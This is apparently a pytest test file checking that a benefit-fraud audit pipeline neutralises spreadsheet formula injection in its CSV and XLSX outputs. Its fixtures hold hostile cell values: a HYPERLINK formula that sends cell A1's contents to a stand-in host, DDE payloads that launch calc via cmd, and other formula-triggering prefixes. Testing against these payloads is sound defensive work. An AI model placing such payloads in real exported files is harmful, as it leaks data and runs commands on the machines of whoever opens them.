"""Formula injection: names, IDs and benefit types that a spreadsheet would run as formulas go through
the real loader and pipeline; clues.csv (and the other CSVs) neutralise them, clues.xlsx holds them as
text and has no formula cell."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import pytest

from flows.settings import RunOptions
from fundwatch.db import connect
from fundwatch.emit import SPREADSHEET_SAFE_MACRO, spreadsheet_safe
from tests.builders import Person, write_county
from tests.runs import run_flow

pytestmark = pytest.mark.usefixtures("prefect_harness")  # the county flow runs on it

HOSTILE_NAMES = ['=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "+1+1", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(A1:A9)", "=1+1\t"]
HOSTILE_BENEFITS = ["=cmd|' /C calc'!A0", "+基本养老金", "@养老金"]
DANGEROUS_START = ("=", "+", "@", "\t", "\r")


def is_dangerous(cell: str) -> bool:
    if not cell:
        return False
    if cell.startswith(DANGEROUS_START):
        return True
    return cell.startswith("-") and re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell) is None


@pytest.fixture(scope="module")
def output(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("injection")
    people = [Person(i, name=name) for i, name in enumerate(HOSTILE_NAMES, start=1)]
    payments = [x for p in people for x in p.monthly("202301", "202304")]
    payments += [people[0].payment("202302", benefit_type=b, payment_id=f"=X{i}") for i, b in enumerate(HOSTILE_BENEFITS)]
    invalid = Person(9, name="@王五")
    payments += [invalid.payment("202301", id_number="-2+3", person_id="=P9")]  # A02: the raw ID number is kept
    recipients = [p.recipient() for p in people] + [invalid.recipient(id_number="-2+3", person_id="=P9")]
    deaths = [{"id_number": p.id_number, "name": p.name, "death_date": "2023-01-20", "source": "公安"} for p in people]
    county = write_county(root / "in", payments, recipients, deaths=deaths)
    run_flow(county, root / "out", RunOptions(validate=False))
    return root / "out"


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_clues_csv_neutralises_formulas(output):
    rows = read_csv(output / "clues.csv")
    header, clues = rows[0], rows[1:]
    names = {c[header.index("姓名")] for c in clues if c[header.index("规则编号")] == "D01"}
    assert names == {"'" + n.strip() for n in HOSTILE_NAMES}
    a02 = [c for c in clues if c[header.index("规则编号")] == "A02"]
    assert [(c[header.index("公民身份号码")], c[header.index("个人编号")], c[header.index("姓名")]) for c in a02] == [
        ("'-2+3", "'=P9", "'@王五")]
    for name in ("clues.csv", "clue_evidence.csv", "scores.csv", "quarantine.csv"):
        for row in read_csv(output / name)[1:]:
            assert not any(is_dangerous(cell) for cell in row), (name, row)
    evidence = read_csv(output / "clue_evidence.csv")
    assert {r[1] for r in evidence[1:]} >= {"'=X0", "'=X1", "'=X2"}


def test_clues_xlsx_has_text_cells_and_no_formulas(output):
    book = openpyxl.load_workbook(output / "clues.xlsx")
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert {n.strip() for n in HOSTILE_NAMES} <= texts and "-2+3" in texts


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-2+3", "'-2+3"), ("-A1", "'-A1"), ("-", "'-"), ("-300", "-300"), ("-1.50", "-1.50"), ("张三", "张三"),
    ("330102195006150032", "330102195006150032"), ("", ""),
])
def test_sql_and_python_neutralise_alike(value, safe):
    con = connect(":memory:")
    con.execute(SPREADSHEET_SAFE_MACRO)
    assert con.execute("select fw_cell(?)", [value]).fetchone()[0] == safe == spreadsheet_safe(value)
